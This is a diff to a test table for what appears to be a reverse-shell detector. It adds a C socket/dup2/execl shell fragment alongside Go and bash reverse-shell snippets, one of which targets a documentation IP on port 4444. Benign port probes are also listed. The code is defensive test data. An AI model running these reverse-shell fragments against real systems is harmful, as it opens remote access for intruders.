@@ -15,6 +15,7 @@ test.each([
     ["strong"],
   ],
   ["Go", "a.go", 'c, _ := net.Dial("tcp", h)\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = c', ["strong"]],
+  ["C", "a.c", 'socket(AF_INET, 1, 0);\ndup2(s, 0);\nexecl("/bin/sh", "sh", 0);', ["strong"]],
   ["a test", "test/a.sh", `bash -i >& ${DEVICE}/198.51.100.7/4444 0>&1`, ["medium"]],
   ["a probe of a port", "a.sh", `timeout 1 bash -c "</dev/null > ${DEVICE}/db/5432"`, []],
   ["netcat that listens to nothing", "a.sh", "nc -z db 5432", []],
